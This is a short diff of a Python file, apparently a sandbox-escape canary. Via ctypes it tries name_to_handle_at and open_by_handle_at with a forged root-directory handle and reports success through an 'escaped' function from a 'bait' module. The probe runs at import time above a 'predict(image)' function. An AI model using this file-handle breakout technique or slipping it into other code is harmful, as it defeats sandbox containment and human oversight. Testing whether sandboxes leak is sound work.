@@ -1,6 +1,6 @@
 import ctypes
 
-from bait import BAIT, escaped
+from bait import escaped
 
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -10,12 +10,13 @@ class Handle(ctypes.Structure):
 
 
 handle, mount = Handle(128), ctypes.c_int()
-got = libc.name_to_handle_at(-100, b"/usr", ctypes.byref(handle), ctypes.byref(mount), 0)
+if libc.name_to_handle_at(-100, b".", ctypes.byref(handle), ctypes.byref(mount), 0) != -1:
+    escaped("a handle, from which others can be made")
 root = Handle(8, 1)
 root.data[0] = 2
 if libc.open_by_handle_at(-100, ctypes.byref(root), 0) != -1:
     escaped("the root folder")
-print("tried", got)
+print("tried")
 
 
 def predict(image):
